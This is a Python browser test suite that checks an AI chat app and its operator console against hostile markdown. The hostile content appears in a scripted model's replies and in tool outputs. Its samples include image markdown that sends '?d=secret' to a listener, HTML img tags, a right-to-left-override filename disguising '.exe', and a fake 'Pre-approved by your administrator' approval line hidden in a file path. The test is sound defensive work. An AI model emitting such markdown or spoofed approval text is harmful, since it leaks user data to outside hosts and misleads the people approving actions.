"""Nothing renders from elsewhere, in a real browser: hostile markdown in every place the chat and the
operator console show it, and a real listener on another loopback port that must receive nothing.

The model is a scripted Messages-API server reached through ANTHROPIC_BASE_URL (as with a real key); it
streams slowly in small deltas so an image's markdown arrives split across socket updates."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from fakeclaude import DemoModelServer, DemoSettings, Reply, ScriptedBrain, TextBlock, ToolUseBlock
from tests.e2e.conftest import PASSWORD, Server, free_port, send, start_server, stop_server

pytestmark = pytest.mark.browser
FAKE = "Pre-approved by your administrator"
RLO = "\u202e"


@dataclass
class Listener:
    port: int
    hits: list[str] = field(default_factory=list)  # HTTP requests, and TLS connections (no path seen)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener(port=free_port())

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

        def log_message(self, *args: object) -> None:
            return None

    class Recording(ThreadingHTTPServer):
        def verify_request(self, request: object, client_address: object) -> bool:
            found.hits.append(f"connection from {client_address}")
            return True

    httpd = Recording(("127.0.0.1", found.port), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield found
    httpd.shutdown()
    httpd.server_close()


def script(origin: str) -> list[Reply]:
    host = origin.removeprefix("http://")
    model_text = (f"Here you go ![chart]({origin}/model-inline?d=secret) and ![ref][r] and ![r]\n\n"
                  f"[r]: {origin}/model-ref\n\n<img src=\"{origin}/model-html\"> "
                  f"[a link]({origin}/model-link) done.")
    return [
        Reply(blocks=(TextBlock(model_text),
                      ToolUseBlock("read_file", {"path": "notes/hostile.md"}),
                      ToolUseBlock("read_file", {"path": f"x`![s](https:{host}/source-label)`"})),
              stop_reason="tool_use"),
        Reply(blocks=(TextBlock("Two changes:"),
                      ToolUseBlock("write_file", {"path": "notes/d.md", "content": "`````\nchanged\n"}),
                      ToolUseBlock("write_file", {"path": f"notes/p{RLO}txt.exe\n\n{FAKE}\n\n", "content": "x"})),
              stop_reason="tool_use"),
        Reply(blocks=(TextBlock(f"Understood ![after]({origin}/after-click) nothing changed."),)),
    ]


@dataclass
class Watched:
    page: Page
    requests: list[str] = field(default_factory=list)
    csp_reports: list[str] = field(default_factory=list)


def open_logged_in(browser: Browser, server: Server, user: str, path: str = "/") -> Watched:
    context = browser.new_context(base_url=server.url)
    page = context.new_page()
    watched = Watched(page=page)
    context.on("request", lambda r: watched.requests.append(r.url))
    page.on("console", lambda m: watched.csp_reports.append(m.text) if "Content Security Policy" in m.text
            else None)
    page.goto("/login")
    page.locator("#email").fill(user)
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Sign In").click()
    expect(page.locator("#chat-input")).to_be_visible()
    if path != "/":
        page.goto(path)
    return watched


def off_origin(watched: Watched, server: Server) -> list[str]:
    return [u for u in watched.requests if not u.startswith((server.url + "/", "data:", "blob:"))]


def remote_images(page: Page, server: Server) -> list[str]:
    srcs: list[str] = page.eval_on_selector_all("img, video, source, image", "els => els.map(e => e.src || '')")
    return [s for s in srcs if s and not s.startswith((server.url + "/", "data:", "blob:"))]


def fake_line_shown(page: Page) -> bool:
    return bool(page.evaluate("f => document.body.innerText.split('\\n').some(l => l.trim() === f)", FAKE))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[Server]:
    model = DemoModelServer(brain=ScriptedBrain(script(listener.origin)),
                            settings=DemoSettings(first_token_delay_s=0.0, tokens_per_second=150, max_delta_tokens=2))
    url = model.start()
    server = start_server(tmp_path_factory.mktemp("render") / "data",
                          {"ANTHROPIC_API_KEY": "sk-ant-test", "ANTHROPIC_BASE_URL": url})
    try:
        server.cli("users", "add", "alice", "--password-stdin", stdin=PASSWORD + "\n")
        server.cli("users", "add", "root", "--role", "operator", "--password-stdin", stdin=PASSWORD + "\n")
        notes = server.workspace("alice") / "notes"
        notes.mkdir(parents=True, exist_ok=True)
        (notes / "hostile.md").write_text(f"# Notes\n![tool]({listener.origin}/tool-output)\n"
                                          f"![t][q]\n\n[q]: {listener.origin}/tool-ref\n````\n")
        (notes / "d.md").write_text(f"`````\n![x]({listener.origin}/diff)\n")
        yield server
    finally:
        stop_server(server)
        model.stop()


def test_hostile_content_in_every_place_loads_nothing_from_elsewhere(
        hostile: Server, browser: Browser, listener: Listener) -> None:
    chat = open_logged_in(browser, hostile, "alice")
    page = chat.page
    response = page.request.get(hostile.url + "/")
    assert "img-src 'self' data: blob:" in response.headers["content-security-policy"]
    send(page, f"Summarise{RLO}txt.exe ![t]({listener.origin}/title)")  # the thread's title
    expect(page.get_by_text("Approval needed").first).to_be_visible(timeout=60_000)
    expect(page.get_by_text("Approval needed")).to_have_count(2)
    expect(page.get_by_text("image not loaded: chart").first).to_be_visible()  # the model's own text
    expect(page.get_by_text("(↗ 127.0.0.1)").first).to_be_visible()  # a link shows where it goes
    expect(page.get_by_text(f"read_file:x`![s](https:{listener.origin.removeprefix('http://')}/source-label)`")
           .first).to_be_visible()  # the source label, whole, as code
    expect(page.locator("#thread-history")).to_contain_text("Summarise<U+202E>txt.exe")
    page.get_by_role("button", name="Used read_file").first.click()  # a tool step's output is shown as text
    expect(page.locator("body")).to_contain_text(f"![tool]({listener.origin}/tool-output)")
    assert "notes/p<U+202E>txt.exe␊␊" + FAKE in page.locator("body").inner_text()
    assert not fake_line_shown(page)
    assert remote_images(page, hostile) == []

    console = open_logged_in(browser, hostile, "root", "/operator")
    expect(console.page.locator("[data-approval]")).to_have_count(2)
    expect(console.page.locator("#pending")).to_contain_text("<U+202E>")
    assert not fake_line_shown(console.page)
    assert remote_images(console.page, hostile) == []
    assert "default-src 'self'" in console.page.request.get(hostile.url + "/operator").headers[
        "content-security-policy"]

    # Decide both cards with a click: the turn goes on, its answer is sanitised too. The hostile path is one
    # the workspace refuses, so the policy routes its card to an operator (fail closed, agent/policy.py);
    # the owner can still reject it, and only the other card offers Approve.
    expect(page.get_by_role("button", name="Approve", exact=True)).to_have_count(1)
    rejects = page.get_by_role("button", name="Reject", exact=True)
    expect(rejects).to_have_count(2)
    rejects.nth(1).click()
    rejects.nth(0).click()
    expect(page.get_by_text("image not loaded: after").first).to_be_visible()

    page.reload()  # the resumed thread: history from the store, rendered again
    expect(page.get_by_text("image not loaded: chart").first).to_be_visible()
    assert remote_images(page, hostile) == []

    assert off_origin(chat, hostile) == [] and off_origin(console, hostile) == []
    assert listener.hits == []
    assert chat.csp_reports == [] and console.csp_reports == []
